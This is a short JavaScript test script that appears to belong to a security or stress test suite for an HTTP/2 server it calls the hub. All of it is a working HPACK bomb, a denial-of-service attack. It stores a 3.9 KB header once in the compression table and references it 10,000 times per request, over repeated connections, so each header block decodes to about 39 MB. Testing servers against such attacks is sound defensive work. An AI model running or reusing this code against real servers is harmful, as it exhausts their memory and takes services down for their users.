// HPACK bombs: a value of 3.9 KB is put into the table once, and then named by a byte, 10,000 times in each request. 4
// connections at a time, each opened again when the hub ends it, for 8 s. No key is needed.
import { connect, finish, frame, preface, push, request, share, types } from "./support.mjs";

const value = Buffer.alloc(3_900, "v");
const literal = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xbd, 0x1d]), value]);
const names = Buffer.alloc(10_000, 0xbe);
const head = request("GET", "/healthz");
const endBy = Date.now() + share(8_000);
let connects = 0;
let blocks = 0;
await Promise.all(
  Array.from({ length: 4 }, async () => {
    while (Date.now() < endBy && connects < 2_000) {
      const connection = await connect("h2");
      ++connects;
      let going = await push(connection, Buffer.concat([preface(), frame(types.headers, 5, 1, Buffer.concat([head, literal, names]))]));
      for (let stream = 3; going && !connection.closed && stream < 400; stream += 2) {
        going = await push(connection, frame(types.headers, 5, stream, Buffer.concat([head, names])), 1_000);
        ++blocks;
      }
      connection.socket.destroy();
    }
  }),
);
finish([], `${blocks} blocks that decode to 39 MB each, on ${connects} connections`);
